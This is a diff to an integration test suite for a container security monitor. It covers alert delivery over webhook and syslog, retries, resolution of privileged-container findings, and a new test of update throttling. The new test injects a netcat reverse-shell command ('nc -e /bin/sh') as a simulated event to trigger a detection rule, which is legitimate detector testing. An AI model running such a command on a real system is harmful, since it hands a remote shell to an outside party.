@@ -239,7 +239,7 @@ def cid_of(tag, i):
 
 class Fleet:
     """A scripted agent making privileged containers (a critical finding
-    each), then stopping them (resolved)."""
+    each), then fixing them (resolved)."""
 
     def __init__(self, agent, coll, name):
         self.a = agent(coll.port, name)
@@ -260,9 +260,10 @@ class Fleet:
         self.seq += 1
         self.a.batch(self.seq, evs)
 
-    def stop(self, cids):
+    def fix(self, cids, name="priv"):
+        """The containers report again, no longer privileged: resolved."""
         self.seq += 1
-        self.a.batch(self.seq, [vt.container_stopped_event(cid, 0) for cid in cids])
+        self.a.batch(self.seq, [vt.container_started_event(cid, name) for cid in cids])
 
 
 def expected(db, min_sev=4, resolved=False):
@@ -304,8 +305,9 @@ def test_webhook_and_syslog_get_every_finding_once(collector_factory, db, agent,
         wait_delivered(sl, want, what="syslog")
         # Below the minimum severity: nothing queued.
         assert set(wh.keys()) == want
-        fleet.stop(cids)
+        fleet.fix(cids)
         want = expected(db, resolved=True)
+        assert len([k for k in want if k[1] == "resolved"]) >= 5
         wait_delivered(wh, want, what="webhook resolves")
         wait_delivered(sl, want, what="syslog resolves")
         vt.wait_for(lambda: outbox_left(db) == 0, 10, what="an empty outbox")
@@ -389,7 +391,7 @@ def test_outage_and_sigkill_lose_nothing(collector_factory, db, agent, pki):
         assert not want <= set(wh.keys()), "all delivered before the kill: test too slow"
         coll2 = collector_factory(db, flags, port=coll.port)
         fleet.reconnect(agent, coll2, "alert-outage")
-        fleet.stop([cid_of("o3", i) for i in range(12)])
+        fleet.fix([cid_of("o3", i) for i in range(12)])
         want = expected(db, resolved=True)
         wait_delivered(wh, want, timeout=60, what="webhook after the restart")
         wait_delivered(sl, want, timeout=60, what="syslog after the restart")
@@ -419,9 +421,9 @@ def test_failing_webhook_is_retried_and_others_unaffected(collector_factory, db,
         fleet.start([cid_of("b1", i) for i in range(3)])
         want = expected(db)
         wait_delivered(sl, want, what="syslog while the webhook fails")
-        vt.wait_for(lambda: (db.scalar(
-            "SELECT min(attempts) FROM alert_outbox WHERE receiver = 'webhook'") or 0) >= 2,
-            30, what="retries")
+        vt.wait_for(lambda: db.query(
+            "SELECT min(attempts) >= 2 FROM alert_outbox "
+            "WHERE receiver = 'webhook'")[0][0], 60, what="every row retried")
         assert db.scalar("SELECT count(*) FROM alert_outbox WHERE receiver = 'webhook'") \
             == len(want)
         assert wh.got == [] and target.got == [] and target.requests == 0
@@ -474,3 +476,29 @@ def test_two_collectors_share_the_outbox(collector_factory, db, agent, pki):
     finally:
         wh.stop()
         sl.stop()
+
+
+def test_seen_again_is_one_update_per_interval(collector_factory, db, agent, pki):
+    wh = Webhook(pki).start()
+    try:
+        coll = collector_factory(db, alert_flags(wh, None, pki,
+                                                 **{"--alert-update-interval": "2s"}))
+        fleet = Fleet(agent, coll, "alert-update")
+        cid = cid_of("u1", 0)
+        fleet.start([cid])
+        for i in range(6):  # the same runtime finding, again and again
+            fleet.seq += 1
+            fleet.a.batch(fleet.seq, [vt.exec_event(100 + i, ["nc", "-e", "/bin/sh", "x"],
+                                                    container_id=cid)])
+            time.sleep(0.2)
+        fid, count = db.query("SELECT id, count FROM findings WHERE rule = 'reverse_shell' "
+                              "AND severity >= 4")[0]
+        assert count == 6
+        vt.wait_for(lambda: (fid, "update") in wh.keys(), 10, what="an update")
+        ups = [d for d in wh.got if d["unmapped"]["vigil"]["action"] == "update"]
+        assert len(ups) == 1 and ups[0]["count"] == 6 and ups[0]["activity_id"] == 2
+        assert wh.keys().index((fid, "opened")) < wh.keys().index((fid, "update"))
+        time.sleep(2.5)
+        assert len([k for k in wh.keys() if k[1] == "update"]) == 1
+    finally:
+        wh.stop()
